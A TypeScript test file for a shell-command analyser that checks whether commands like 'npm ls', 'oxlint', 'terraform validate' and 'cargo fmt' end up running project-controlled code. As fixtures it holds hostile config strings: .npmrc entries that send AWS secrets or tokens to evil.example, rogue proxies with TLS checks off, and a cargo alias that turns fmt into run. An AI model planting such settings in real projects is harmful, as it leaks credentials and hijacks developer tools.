import { describe, expect, it } from "vitest";
import type { World } from "../../../src/action/index.ts";
import { lowerShell } from "../../../src/shell/index.ts";
import { smallWorld } from "../world.ts";

const P = "/home/u/p";
/** True when some of what the line runs is code of the project, where these of its files say this. */
function runsCode(line: string, texts: Readonly<Record<string, string>>, changes: Partial<World> = {}): boolean {
  const files = Object.fromEntries(Object.keys(texts).map((name) => [`${P}/${name}`, name.endsWith("/") ? "directory" : "file"] as const));
  const named = Object.fromEntries(Object.entries(files).map(([path, kind]) => [path.replace(/\/$/, ""), kind]));
  const world = smallWorld({ files: named, text: (path) => texts[path.slice(P.length + 1)], ...changes });
  return lowerShell(line, { world }).actions.some(({ kind }) => kind === "code");
}

describe("npm's settings of a project", () => {
  it.each([
    ["a variable for its registry", "registry=http://evil.example/\n//evil.example/:_authToken=${AWS_SECRET_ACCESS_KEY}\n"],
    ["a variable in an address", "registry=http://evil.example/${TOKEN}\n"],
    ["a host that begins like the public one", "  //registry.npmjs.org.evil.example/:_authToken=${TOKEN}\n"],
    ["a proxy", "https-proxy=http://evil.example:8080\n"],
    ["a proxy that is believed", "https-proxy = http://evil.example\nstrict-ssl=false\n"],
    ["who is believed", "cafile=./evil.pem\n"],
    ["a setting that nobody knows", "frobnicate=1\n"],
    ["a section", "[x]\n"],
  ])("are code where they choose %s", (_, text) => {
    for (const line of ["npm ls", "npm view x", "npm prefix", "npm outdated --json", "npm --version", "bun outdated"])
      expect([line, runsCode(line, { ".npmrc": text })]).toEqual([line, true]);
  });

  it.each([
    "",
    "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\nsave-exact=true\n# ${X}\n",
    "@a:registry=https://npm.example/\nengine-strict=true\nomit[]=dev\nprefer-offline = true\n",
  ])("%j changes nothing of a look", (text) => {
    for (const line of ["npm ls", "npm view x"]) expect([line, runsCode(line, { ".npmrc": text })]).toEqual([line, false]);
  });
});

describe("npm's settings in a folder above", () => {
  // Tried with npm 11: `npm config get registry`.
  const PROXY = "https-proxy=http://evil.example\n";
  it.each<readonly [what: string, texts: Readonly<Record<string, string>>, expected: boolean]>([
    ["that is no project", { ".npmrc": PROXY, "a/package.json": "{}" }, false],
    ["that has packages", { ".npmrc": PROXY, "node_modules/": "" }, true],
    ["that may be the root of a workspace", { ".npmrc": PROXY, "package.json": "{}", "a/package.json": "{}" }, true],
    ["the folder itself", { "a/.npmrc": PROXY }, true],
  ])("%s", (_, texts, expected) => {
    expect(runsCode("npm ls", { "a/": "", ...texts }, { cwd: `${P}/a` })).toBe(expected);
  });

  it.each([
    ["npm --prefix a ls", true],
    ["npm --prefix=a ls", true],
    ["npm -C a ls", true],
    ["npm ls --prefix ./a", true],
    ["npm --prefi a ls", true],
    ["env -C a npm ls", true],
    ["cd a && npm ls", true],
    ['npm ls --prefix "$X"', true],
    ["bun --cwd a outdated", true],
    ["npm --prefix b ls", false],
    ["npm ls", false],
  ])("of another folder that the line names: %s", (line, expected) => {
    expect(runsCode(line, { "a/": "", "b/": "", "a/.npmrc": PROXY })).toBe(expected);
  });

  it("count for pnpm and yarn, which look further", () => {
    for (const line of ["pnpm ls", "yarn list"])
      expect([line, runsCode(line, { "a/": "", ".npmrc": PROXY, "a/package.json": "{}" }, { cwd: `${P}/a` })]).toEqual([line, true]);
  });
});

describe("oxlint, whose plugins are code", () => {
  it.each([
    ["none", { "src/a.ts": "" }, false],
    ["rules alone", { ".oxlintrc.json": '{"rules":{}}' }, false],
    ["plugins", { ".oxlintrc.json": '{"jsPlugins":["./x.js"]}' }, true],
    ["another that it extends", { ".oxlintrc.json": '{"extends":["./x.json"]}' }, true],
    ["plugins in a folder below", { "a/b/.oxlintrc.json": '{"jsPlugins":["./x.js"]}' }, true],
    ["code", { "oxlint.config.ts": "" }, true],
  ])("with %s", (_, texts, expected) => {
    expect(runsCode("oxlint", texts)).toBe(expected);
  });

  it("where the project is too large to look through", () => {
    expect(runsCode("oxlint", {}, { find: () => ({ found: undefined, complete: false }) })).toBe(true);
  });
});

describe("terraform, whose providers are programs", () => {
  const OWN = { ".terraform/": "", ".terraform/providers/": "", ".terraform/providers/x": "", ".gitignore": ".terraform\n" };
  const brought = (...paths: readonly string[]): Partial<World> => ({ tracked: (path) => paths.includes(path.slice(P.length + 1)) });

  it.each<readonly [what: string, texts: Readonly<Record<string, string>>, changes: Partial<World>, expected: boolean]>([
    ["none", {}, {}, false],
    ["those that init fetched", OWN, brought(), false],
    ["one of the repository", OWN, brought(".terraform/providers/x"), true],
    ["a submodule", OWN, brought(".terraform/providers"), true],
    ["a folder that is a submodule", OWN, brought(".terraform"), true],
    ["those of a folder that git does not leave out", { ".terraform/": "", ".terraform/x": "" }, brought(), true],
    ["no repository", OWN, { tracked: () => undefined }, true],
    ["a folder that cannot be looked through", OWN, { ...brought(), find: () => ({ found: undefined, complete: false }) }, true],
  ])("with %s", (_, texts, changes, expected) => {
    for (const line of ["terraform validate", "terraform show", "tofu validate"])
      expect([line, runsCode(line, texts, changes)]).toEqual([line, expected]);
  });
});

// Tried with cargo 1.65, which runs the alias and warns.
describe("cargo fmt, before which an alias comes", () => {
  const LINES = ["cargo fmt -- --check", "cargo fmt --all --check", "cargo +nightly -q fmt --check", "env cargo fmt --check"];
  it.each([
    ['[alias]\nfmt = "run"\n', true],
    ['alias.fmt="run"\n', true],
    ['[alias]\n"fmt"=["run"]\n', true],
    ["alias = { 'fmt' = 'run' }\n", true],
    ['[alias]\n"f\\u006dt" = "run"\n', true],
    ['include = ["x.toml"]\n', true],
    ['[alias]\nxtask = "run --package xtask --"\nlint = "fmt --check"\n', false],
    ['[build]\nrustflags = ["-C", "target-cpu=native"]\n', false],
  ])("%j", (text, expected) => {
    for (const line of LINES)
      for (const name of ["config.toml", "config"])
        expect([line, name, runsCode(line, { [`.cargo/${name}`]: text })]).toEqual([line, name, expected]);
  });

  const ALIAS = '[alias]\nfmt = "run"\n';
  it.each(["/home/u/.cargo/config.toml", "/usr/local/cargo/config", "/home/.cargo/config.toml"])("in %s", (file) => {
    const world: Partial<World> = {
      kind: (path) => (path === file ? "file" : "missing"),
      text: (path) => (path === file ? ALIAS : undefined),
      lookup: (name) => ({ path: `/usr/local/cargo/bin/${name}`, trusted: true }),
    };
    expect(runsCode("cargo fmt --check", {}, world)).toBe(true);
    expect(runsCode("rustfmt --check a.rs", {}, world)).toBe(false);
  });

  it.each([
    ["cd a && cargo fmt --check", true],
    ["cargo -C a fmt --check", true],
    ["cargo fmt --check", false],
    ["cargo version", false],
    ["mkdir -p .cargo && echo x > .cargo/config.toml && cargo fmt --check", true],
  ])("of the folder where it works: %s", (line, expected) => {
    expect(runsCode(line, { "a/": "", "a/.cargo/config.toml": ALIAS })).toBe(expected);
  });

  it("where nobody has written anything", () => {
    for (const line of LINES) expect([line, runsCode(line, {})]).toEqual([line, false]);
  });
});
